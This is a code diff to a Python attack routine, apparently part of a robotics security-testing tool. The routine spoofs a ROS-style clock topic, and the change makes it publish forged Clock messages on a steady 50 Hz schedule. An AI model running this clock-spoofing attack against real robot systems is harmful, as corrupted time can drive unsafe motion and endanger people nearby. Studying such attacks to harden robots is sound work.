@@ -121,9 +121,11 @@ def clock_attack(graph: Graph, command_topic: str = "/teleop/cmd_vel", speed: fl
     def attack():
         msg = Clock()
         msg.clock.sec = int(attack_clock_s)
-        while not stop.wait(0.02):
+        start = time.monotonic()
+        while not stop.is_set():  # on a 50 Hz schedule: a late wake-up does not lower the rate
             clock_pub.publish(msg)
             sent[0] += 1
+            stop.wait(max(0.0, start + sent[0] * 0.02 - time.monotonic()))
     t0 = time.monotonic()
     attacker = None
     twist = Twist()
